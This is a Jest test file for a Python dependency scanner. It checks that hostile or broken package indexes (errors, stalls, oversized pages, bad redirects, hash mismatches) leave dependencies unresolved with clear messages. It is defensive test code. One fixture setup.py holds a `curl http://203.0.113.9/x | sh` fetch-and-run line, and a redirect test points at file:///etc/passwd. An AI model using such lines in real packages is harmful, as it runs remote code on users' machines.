// A hostile or broken index, end to end through the CLI and the action: every fault leaves the
// dependency it hit `unresolved` with a message naming the URL and what went wrong, the rest of the
// scan is decided, and nothing hangs (small timeouts and retry limits; jest's timeout is the guard).

import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';

import { makeSdist, makeWheel } from './helpers/archives.js';
import { startIndexServer, type IndexFault, type IndexServer } from './helpers/index-server.js';
import { dep, expectUnresolved, Sandbox, type RunSettings } from './helpers/hostile.js';

const sandbox = new Sandbox();
let server: IndexServer;

const PROJECTS = {
  good: [makeWheel('good', '1.0')],
  clean: [makeSdist('clean', '1.0')],
  victim: [makeSdist('victim', '2.0')],
};
const VICTIM_FILE = '/files/victim-2.0.tar.gz';

beforeAll(async () => {
  server = await startIndexServer({ projects: PROJECTS });
});
afterAll(async () => {
  await server.close();
  sandbox.cleanup();
});

function settings(extra: Partial<RunSettings> = {}): RunSettings {
  return {
    indexUrl: server.indexUrl,
    args: ['--timeout', '1'],
    inputs: { timeout: '1' },
    ...extra,
    env: { SDIST_GUARD_LIMITS: 'retries=1', ...(extra.env ?? {}) },
  };
}

const REQUIREMENTS = { 'requirements.txt': 'good==1.0\nclean\nvictim\n' };
const OTHERS = { good: 'wheel', clean: 'sdist' };

async function withFaults(faults: Record<string, IndexFault>, body: () => Promise<void>): Promise<void> {
  server.update({ faults });
  try {
    await body();
  } finally {
    server.update({ faults: {} });
  }
}

/** Requests the index saw for a path since `from`. */
function hits(path: string, from: number): number {
  return server.requests.slice(from).filter((r) => r.path === path).length;
}

/**
 * A server in front of the index: `handle` answers what it wants (returning true), everything else
 * is passed through to the index unchanged. Another port is another host to the client.
 */
async function startFront(handle: (req: IncomingMessage, res: ServerResponse) => boolean): Promise<{ url: string; close(): Promise<void> }> {
  const sockets = new Set<Socket>();
  const front: Server = createServer((req, res) => {
    if (handle(req, res)) return;
    const upstream = request(`${server.url}${req.url}`, { method: req.method, headers: { ...req.headers, host: new URL(server.url).host } }, (up) => {
      res.writeHead(up.statusCode ?? 502, up.headers);
      up.pipe(res);
    });
    upstream.on('error', () => res.destroy());
    req.pipe(upstream);
  });
  front.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => front.listen(0, '127.0.0.1', () => r()));
  const url = `http://127.0.0.1:${(front.address() as AddressInfo).port}`;
  return {
    url,
    close: async () => {
      const closed = new Promise<void>((r) => front.close(() => r()));
      for (const s of sockets) s.destroy();
      await closed;
    },
  };
}

const URL_OF = (path: string) => new RegExp(`http://127\\.0\\.0\\.1:\\d+${path.replace(/[.]/g, '\\.')}`);

describe('index status codes', () => {
  it('404: the project is not found, and the message names the URL', async () => {
    await withFaults({ '/simple/victim/': { status: 404 } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', /project "victim" was not found \(404\) at http:\/\/127\.0\.0\.1:\d+\/simple\/victim\//, OTHERS);
    });
  });

  it('401 without credentials: says which host needs them and how to give them', async () => {
    await withFaults({ '/simple/victim/': { status: 401, headers: { 'www-authenticate': 'Basic realm="x"' } } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      const host = new URL(server.url).host.replace(/\./g, '\\.');
      expectUnresolved(r, 'victim', new RegExp(`401 Unauthorized from .*/simple/victim/: credentials are missing or wrong for host ${host} \\(none were given`), OTHERS);
    });
  });

  it('401 with credentials: says the ones given for that host were rejected, without showing them', async () => {
    await withFaults({ '/simple/victim/': { status: 401 } }, async () => {
      const host = new URL(server.url).host;
      const r = await sandbox.both(REQUIREMENTS, {
        ...settings({ env: { SDIST_GUARD_INDEX_CREDENTIALS: `http://${host}=ci-bot:hunter2-secret` } }),
        inputs: { timeout: '1', 'index-credentials': `http://${host}=ci-bot:hunter2-secret` },
      });
      expectUnresolved(r, 'victim', /credentials are missing or wrong for host 127\.0\.0\.1:\d+ \(the credentials given for it were rejected\)/, OTHERS);
      expect(JSON.stringify(r.cli.report)).not.toContain('hunter2-secret');
      expect(r.action.reportText).not.toContain('hunter2-secret');
    });
  });

  it('403: says the host refused access', async () => {
    await withFaults({ [VICTIM_FILE]: { status: 403 } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`could not be checked: 403 Forbidden from ${URL_OF(VICTIM_FILE).source}: host 127\\.0\\.0\\.1:\\d+ refused access`), OTHERS);
    });
  });

  for (const status of [429, 503]) {
    it(`${status} without Retry-After: retried with backoff as many times as allowed, then unresolved`, async () => {
      await withFaults({ '/simple/victim/': { status } }, async () => {
        const from = server.requests.length;
        const r = await sandbox.both(REQUIREMENTS, settings());
        expectUnresolved(r, 'victim', new RegExp(`${status} .* from ${URL_OF('/simple/victim/').source} \\(gave up after 2 attempts\\)`), OTHERS);
        // retries=1: two attempts per run, two runs
        expect(hits('/simple/victim/', from)).toBe(4);
      });
    });

    it(`${status} with a short Retry-After: waits as asked and then succeeds`, async () => {
      await withFaults({ '/simple/victim/': { status, retryAfter: '1', times: 1 } }, async () => {
        const project = sandbox.project(REQUIREMENTS);
        const cli = await sandbox.cli(project, settings());
        expect(dep(cli.report, 'victim').status).toBe('sdist');
        expect(cli.code).toBe(0);
      });
    });

    it(`${status} with a Retry-After longer than the client waits: fails at once, saying so`, async () => {
      const date = new Date(Date.now() + 2 * 3600_000).toUTCString();
      for (const retryAfter of ['3600', date]) {
        await withFaults({ '/simple/victim/': { status, retryAfter } }, async () => {
          const from = server.requests.length;
          const r = await sandbox.both(REQUIREMENTS, settings());
          expectUnresolved(r, 'victim', /the server asked to wait \d+ s before retrying, longer than the 60 s this client waits/, OTHERS);
          expect(hits('/simple/victim/', from)).toBe(2);
        });
      }
    });
  }

  it('a Retry-After the limits allow is honored, a longer one is refused (max-retry-after)', async () => {
    await withFaults({ '/simple/victim/': { status: 503, retryAfter: '2' } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings({ env: { SDIST_GUARD_LIMITS: 'retries=1 max-retry-after=1' } }));
      expectUnresolved(r, 'victim', /asked to wait 2 s before retrying, longer than the 1 s this client waits/, OTHERS);
    });
  });
});

describe('broken connections', () => {
  it('a connection reset: a network error naming the URL', async () => {
    await withFaults({ '/simple/victim/': { reset: true } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`network error waiting for a response from ${URL_OF('/simple/victim/').source}: .*(ECONNRESET|socket).*\\(gave up after 2 attempts\\)`), OTHERS);
    });
  });

  it('a server that accepts and never answers: a timeout naming the URL', async () => {
    await withFaults({ '/simple/victim/': { hang: true } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`timed out after 1000 ms waiting for a response from ${URL_OF('/simple/victim/').source}`), OTHERS);
    });
  });

  it('an sdist whose body stops half way and the connection stays open: a timeout reading the body', async () => {
    await withFaults({ [VICTIM_FILE]: { stall: true } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`could not be checked: timed out after 1000 ms reading the body \\(after \\d+ of \\d+ bytes\\) from ${URL_OF(VICTIM_FILE).source}`), OTHERS);
    });
  });

  // A byte now and then, each pause far shorter than the timeout: the timeout is for the whole request.
  it('a project page dripped a byte at a time: a timeout on the request as a whole', async () => {
    await withFaults({ '/simple/victim/': { drip: { bytes: 1, everyMs: 200 } } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`timed out after 1000 ms reading the body \\(after \\d+ of \\d+ bytes\\) from ${URL_OF('/simple/victim/').source}`), OTHERS);
    });
  });

  it('an sdist dripped a byte at a time: a timeout on the download as a whole', async () => {
    await withFaults({ [VICTIM_FILE]: { drip: { bytes: 1, everyMs: 200 } } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`could not be checked: timed out after 1000 ms reading the body \\(after \\d+ of \\d+ bytes\\) from ${URL_OF(VICTIM_FILE).source}`), OTHERS);
    });
  });

  it('an sdist body cut short: never analyzed as if complete', async () => {
    await withFaults({ [VICTIM_FILE]: { truncate: true } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`could not be checked: network error reading the body \\(after \\d+ of \\d+ bytes\\) from ${URL_OF(VICTIM_FILE).source}`), OTHERS);
    });
  });

  it('a project page cut short: a network error naming the page', async () => {
    await withFaults({ '/simple/victim/': { truncate: true } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`reading the body \\(after \\d+ of \\d+ bytes\\) from ${URL_OF('/simple/victim/').source}`), OTHERS);
    });
  });

  it('an index nobody listens on: connection refused, naming the URL', async () => {
    const dead = await startFront(() => false);
    const deadUrl = dead.url;
    await dead.close();
    const r = await sandbox.both(
      { 'requirements.txt': 'good==1.0\nclean\n', 'requirements-mirror.txt': `--index-url ${deadUrl}/simple\nvictim\n` },
      settings(),
    );
    expectUnresolved(r, 'victim', new RegExp(`network error waiting for a response from ${deadUrl.replace(/\./g, '\\.')}/simple/victim/: ECONNREFUSED`), OTHERS);
  });
});

describe('hostile index pages', () => {
  it('a page that never ends (2 GB and more): cut off at the page limit', async () => {
    let sent = 0;
    const front = await startFront((req, res) => {
      if (!req.url?.startsWith('/simple/victim/')) return false;
      res.writeHead(200, { 'content-type': 'application/vnd.pypi.simple.v1+json' });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const pump = (): void => {
        while (!res.destroyed && sent < 2 * 1024 ** 3) {
          sent += chunk.length;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end();
      };
      res.write('{"meta": {"api-version": "1.1"}, "name": "victim", "files": [');
      pump();
      return true;
    });
    try {
      const r = await sandbox.both(REQUIREMENTS, settings({ indexUrl: `${front.url}/simple`, env: { SDIST_GUARD_LIMITS: 'retries=1 max-page-bytes=1MiB' } }));
      expectUnresolved(r, 'victim', new RegExp(`response from ${front.url.replace(/\./g, '\\.')}/simple/victim/ is too large: more than the 1048576-byte limit`), OTHERS);
      // the client stopped reading: far less than the 2 GB was ever sent
      expect(sent).toBeLessThan(64 * 1024 * 1024);
    } finally {
      await front.close();
    }
  });

  it('a page that announces 2 GB: refused before reading', async () => {
    const front = await startFront((req, res) => {
      if (!req.url?.startsWith('/simple/victim/')) return false;
      res.writeHead(200, { 'content-type': 'application/vnd.pypi.simple.v1+json', 'content-length': String(2 * 1024 ** 3) });
      res.write('{');
      return true;
    });
    try {
      const r = await sandbox.both(REQUIREMENTS, settings({ indexUrl: `${front.url}/simple` }));
      expectUnresolved(r, 'victim', /is too large: the server announced 2147483648 bytes, more than the 67108864-byte limit/, OTHERS);
    } finally {
      await front.close();
    }
  });

  it('HTML where JSON was asked (a JSON content type over an HTML body): malformed, naming the page', async () => {
    await withFaults({ '/simple/victim/': { contentType: 'application/vnd.pypi.simple.v1+json', body: '<!DOCTYPE html><html><body><a href="x.tar.gz">x</a></body></html>' } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`malformed project page from ${URL_OF('/simple/victim/').source}: not valid JSON`), OTHERS);
    });
  });

  it('JSON where HTML was asked (an HTML content type over a JSON body): no files, so nothing to install', async () => {
    await withFaults({ '/simple/victim/': { contentType: 'text/html', body: JSON.stringify({ meta: { 'api-version': '1.1' }, files: [{ filename: 'victim-2.0.tar.gz', url: '/x', hashes: {} }] }) } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`malformed project page from ${URL_OF('/simple/victim/').source}: not an HTML page \\(it contains no markup\\)`), OTHERS);
      expect(dep(r.cli.report, 'victim').targets[0]!.kind).toBe('none');
    });
  });

  it('a content type that is neither: refused, naming what was expected', async () => {
    await withFaults({ '/simple/victim/': { contentType: 'application/octet-stream' } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', /unexpected Content-Type "application\/octet-stream" from .*\/simple\/victim\/: expected a PEP 691 JSON page/, OTHERS);
    });
  });

  it('malformed JSON: says where the JSON breaks', async () => {
    await withFaults({ '/simple/victim/': { body: '{"meta": {"api-version": "1.1"}, "files": [ {"filename": ' } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', /malformed project page from .*\/simple\/victim\/: not valid JSON \(.*(position|column|end of JSON).*\)/, OTHERS);
    });
  });

  it('JSON of the wrong shape: says which field', async () => {
    await withFaults({ '/simple/victim/': { body: JSON.stringify({ meta: { 'api-version': '1.1' }, name: 'victim', files: [{ filename: 'victim-2.0.tar.gz', url: 'x', hashes: { sha256: 'zz' } }] }) } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', /malformed project page from .*: files\[0\]\.hashes\.sha256 must be a hex digest/, OTHERS);
    });
  });
});

describe('redirects', () => {
  it('to another host: followed without the credentials, which stay with the host they were given for', async () => {
    const elsewhere = await startIndexServer({ projects: { victim: PROJECTS.victim } });
    const authed = await startIndexServer({ projects: { good: PROJECTS.good, clean: PROJECTS.clean, victim: PROJECTS.victim }, auth: { username: 'ci', password: 'tok-3d1f9a7c' } });
    authed.update({ faults: { '/simple/victim/': { status: 302, redirect: `${elsewhere.url}/simple/victim/` } } });
    try {
      const host = new URL(authed.url).host;
      const r = await sandbox.both(REQUIREMENTS, {
        ...settings({ indexUrl: authed.indexUrl, env: { SDIST_GUARD_INDEX_CREDENTIALS: `http://${host}=ci:tok-3d1f9a7c` } }),
        inputs: { timeout: '1', 'index-credentials': `http://${host}=ci:tok-3d1f9a7c` },
      });
      for (const report of [r.cli.report, r.action.report]) {
        expect(dep(report, 'victim').status).toBe('sdist');
        expect(dep(report, 'good').status).toBe('wheel');
      }
      // the index got its credentials; the other host got the redirected page and file requests, never them
      expect(authed.requests.every((q) => q.headers.authorization !== undefined)).toBe(true);
      expect(elsewhere.requests.map((q) => q.path)).toEqual(expect.arrayContaining(['/simple/victim/', VICTIM_FILE]));
      expect(elsewhere.requests.filter((q) => q.headers.authorization !== undefined)).toEqual([]);
      expect(JSON.stringify(elsewhere.requests)).not.toContain(Buffer.from('ci:tok-3d1f9a7c').toString('base64'));
    } finally {
      await elsewhere.close();
      await authed.close();
    }
  });

  it('credentials a redirect writes into its Location are not used', async () => {
    const elsewhere = await startIndexServer({ projects: { victim: PROJECTS.victim } });
    try {
      const target = `${elsewhere.url.replace('http://', 'http://mallory:stolen@')}/simple/victim/`;
      await withFaults({ '/simple/victim/': { status: 301, redirect: target } }, async () => {
        const project = sandbox.project(REQUIREMENTS);
        const cli = await sandbox.cli(project, settings());
        expect(dep(cli.report, 'victim').status).toBe('sdist');
        expect(elsewhere.requests.filter((q) => q.headers.authorization !== undefined)).toEqual([]);
      });
    } finally {
      await elsewhere.close();
    }
  });

  it('a redirect loop: stops after a few hops and names where it started', async () => {
    await withFaults({ '/simple/victim/': { status: 302, redirect: '/simple/victim/' } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`more than 5 redirects starting at ${URL_OF('/simple/victim/').source}`), OTHERS);
    });
  });

  it('a redirect to a file: or ftp: URL is not followed', async () => {
    for (const location of ['file:///etc/passwd', 'ftp://127.0.0.1/victim/']) {
      await withFaults({ [VICTIM_FILE]: { status: 302, redirect: location } }, async () => {
        const r = await sandbox.both(REQUIREMENTS, settings());
        expectUnresolved(r, 'victim', new RegExp(`302 Found from ${URL_OF(VICTIM_FILE).source} points to (file|ftp): URL, which is not followed`), OTHERS);
      });
    }
  });
});

describe('file integrity', () => {
  it('an sdist whose hash does not match the page: never analyzed, never passed', async () => {
    const evil = makeSdist('victim', '2.0', { 'setup.py': 'import os\nos.system("curl http://203.0.113.9/x | sh")\n' });
    await withFaults({ [VICTIM_FILE]: { body: Buffer.from(evil.data).toString('latin1') } }, async () => {
      const r = await sandbox.both(REQUIREMENTS, settings());
      expectUnresolved(r, 'victim', new RegExp(`hash mismatch for victim-2\\.0\\.tar\\.gz from ${URL_OF(VICTIM_FILE).source}: expected sha256:[0-9a-f]{64}, got sha256:[0-9a-f]{64}`), OTHERS);
      expect(dep(r.cli.report, 'victim').findings).toEqual([]);
    });
  });

  it('an sdist that does not match the --hash pinned in the requirements file', async () => {
    const pinned = `victim==2.0 --hash=sha256:${'ab'.repeat(32)}`;
    const r = await sandbox.both({ 'requirements.txt': `good==1.0\nclean\n${pinned}\n` }, settings());
    expectUnresolved(r, 'victim', new RegExp(`pip would build victim-2\\.0\\.tar\\.gz, but it could not be checked: hash mismatch for victim-2\\.0\\.tar\\.gz from .*: expected sha256:(ab){32}, got sha256:[0-9a-f]{64}`), OTHERS);
  });
});
